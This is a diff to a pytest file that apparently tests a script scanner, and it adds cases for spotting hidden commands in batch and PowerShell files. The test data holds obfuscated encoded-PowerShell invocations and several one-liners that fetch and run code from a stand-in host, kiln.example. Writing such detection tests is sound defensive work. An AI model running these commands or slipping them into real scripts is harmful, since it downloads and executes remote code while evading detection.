@@ -34,10 +34,29 @@ def test_a_batch_file_is_read() -> None:
     )
 
 
+@pytest.mark.parametrize(
+    ("path", "text", "capability"),
+    [
+        ("a.bat", "p%random:~9,1%owershell -enc aQBlAHgAIABrAGkAbABuAA==", "decode_and_run"),
+        ("a.bat", "p%random:~9,1%owershell -File a.ps1", "escaped_text"),
+        ("a.bat", "p%unset%ow%unset%ershell -enc aQBlAHgAIABrAGkAbABuAA==", "decode_and_run"),
+        ("a.bat", 'cmd /q /c "curl -o %TEMP%\\x.exe https://kiln.example/x && %TEMP%\\x.exe"', "fetch_and_run"),
+        ("a.ps1", "& ([scriptblock]::Create((iwr https://kiln.example/x)))", "fetch_and_run"),
+        ("a.ps1", "&('{1}{0}' -f 'x','ie') (irm https://kiln.example/x)", "fetch_and_run"),
+        ("a.ps1", "Start-BitsTransfer https://kiln.example/x.exe x.exe; ./x.exe", "fetch_and_run"),
+        ("a.ps1", "[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQ'))", "decode_and_run"),
+    ],
+)
+def test_hidden_commands_are_seen(path: str, text: str, capability: str) -> None:
+    assert (capability, 1) in read(text, path)
+
+
 def test_ordinary_scripts_show_nothing() -> None:
     assert not read(
         "$v = '1'\nWrite-Host \"it's $v\"\nInvoke-WebRequest https://kiln.example/a.zip -OutFile a.zip\nExpand-Archive a.zip\n"
     )
+    assert not read('cmd /c "npm run build"\nset A=%B%\nfire_%VERSION%_x64.exe --quiet\n', "a.bat")
+    assert not read("'{0}-{1}' -f $name, $version\nAdd-Type -Path (Join-Path $PSScriptRoot 'a.dll')\n")
 
 
 @pytest.mark.parametrize(
